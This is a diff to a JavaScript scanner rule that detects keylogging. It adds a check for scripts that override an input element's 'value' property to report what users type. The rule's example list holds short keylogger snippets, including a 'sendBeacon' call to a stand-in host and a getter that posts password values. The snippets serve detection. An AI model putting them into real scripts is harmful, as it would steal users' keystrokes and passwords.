@@ -1,10 +1,10 @@
-import { apiPath, defsOf, Op, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { apiPath, callsOf, constant, defsOf, nameOf, Op, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
 import { listenersOf } from './listeners.ts';
 import { runsInPages } from './places.ts';
 import { leavesBy, readsBetween } from './sendings.ts';
-import { few, usageOf } from './usage.ts';
+import { callsWithin, few, functionOf, usageOf } from './usage.ts';
 
 const KEYS: ReadonlySet<string> = new Set(['key', 'keyCode', 'which', 'charCode', 'code', 'data']);
 const VALUES: ReadonlySet<string> = new Set(['value', 'innerText', 'textContent', 'data', 'key', 'keyCode', 'which']);
@@ -22,6 +22,14 @@ export const keyLogging = defineRule({
   remedy: 'Listen only in your own fields, or only for the shortcuts that you need, and neither keep nor send what was typed.',
   check: checkScripts(function* ({ script, file, facts, hit }) {
     if (!runsInPages(facts, file.path)) return;
+    for (const call of few(callsOf(script, 'Object.defineProperty', 'Reflect.defineProperty'))) {
+      if (!/^HTML(Input|TextArea)Element\.prototype$/.test(apiPath(script, call.args[0] ?? 0) ?? '') || constant(script, call.args[1] ?? 0) !== 'value') continue;
+      const told = ['get', 'set'].some((name) => {
+        const fn = functionOf(script, propertyOf(script, call.args[2] ?? 0, name));
+        return fn !== undefined && callsWithin(script, fn, 1).some((inner) => /^(postMessage|dispatchEvent|sendMessage|sendBeacon|fetch|send)$/.test(nameOf(script, inner.callee)));
+      });
+      if (told) yield hit(call.value, { message: 'Every field tells the script what is entered into it.' });
+    }
     for (const listener of few(listenersOf(script, 'keydown', 'keyup', 'keypress', 'input', 'beforeinput').filter((one) => one.everywhere))) {
       const fn = script.functions[listener.fn];
       if (fn === undefined) continue;
@@ -40,8 +48,10 @@ export const keyLogging = defineRule({
       contentExample('const keys = []; window.onkeypress = function (e) { keys.push(String.fromCharCode(e.which)); if (keys.length > 20) chrome.runtime.sendMessage({ keys: keys.join("") }); };'),
       contentExample('document.addEventListener("input", (e) => { navigator.sendBeacon("https://x.example/i", e.target.value); }, true);'),
       contentExample('var log = ""; $(document).on("keyup", function (e) { log += e.key; chrome.storage.local.set({ log: log }); });'),
+      contentExample('const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { get() { const v = d.get.call(this); if (this.type === "password") window.postMessage({ v }, "*"); return v; }, set(v) { d.set.call(this, v); } });'),
     ],
     good: [
+      contentExample('Object.defineProperty(HTMLInputElement.prototype, "value", { get() { return d.get.call(this); }, set(v) { d.set.call(this, v); this.classList.toggle("filled", v !== ""); } });'),
       contentExample('document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); });'),
       contentExample('document.addEventListener("keydown", (e) => { if (e.ctrlKey && e.key === "k") chrome.runtime.sendMessage({ open: true }); });'),
       contentExample('const box = document.createElement("input"); box.addEventListener("input", (e) => { fetch("https://x.example/search?q=" + box.value); });'),
